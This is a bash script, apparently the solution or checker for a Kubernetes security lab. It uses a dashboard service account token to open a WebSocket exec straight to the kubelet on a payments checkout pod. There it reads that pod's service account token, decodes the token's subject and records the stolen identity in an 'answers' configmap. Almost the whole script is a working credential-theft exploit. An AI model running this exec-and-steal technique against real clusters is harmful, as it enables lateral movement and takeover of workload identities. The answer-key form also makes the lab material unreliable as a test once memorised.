#!/usr/bin/env bash
# Open a WebSocket exec to the kubelet as the dashboard, pick the token out of the frames, decode its sub.
set -euo pipefail
TOKEN=$(kubectl create token node-dashboard -n monitoring)
CMD='command=cat&command=/var/run/secrets/kubernetes.io/serviceaccount/token'
stolen=$(curl -sk -N --max-time 3 -H "Authorization: Bearer $TOKEN" \
  -H 'Connection: Upgrade' -H 'Upgrade: websocket' -H 'Sec-WebSocket-Version: 13' \
  -H 'Sec-WebSocket-Key: a3ViZWxhYi1ncmFkZXIhIQ==' -H 'Sec-WebSocket-Protocol: v4.channel.k8s.io' \
  "https://$NODE_IP:$KUBELET_PORT/exec/payments/checkout/app?$CMD&output=1" \
  | grep -aoE 'eyJ[A-Za-z0-9_-]+\.[A-Za-z0-9_-]+\.[A-Za-z0-9_-]+' | head -1 || true)
[ -n "$stolen" ] || { echo "no token in the exec output" >&2; exit 1; }
payload=$(cut -d. -f2 <<<"$stolen" | tr '_-' '/+')
while [ $(( ${#payload} % 4 )) -ne 0 ]; do payload="$payload="; done
sub=$(base64 -d <<<"$payload" | jq -r .sub)
kubectl -n kubelab patch configmap answers --type merge \
  -p "{\"data\":{\"exec-possible\":\"yes\",\"stolen-sub\":\"$sub\"}}"
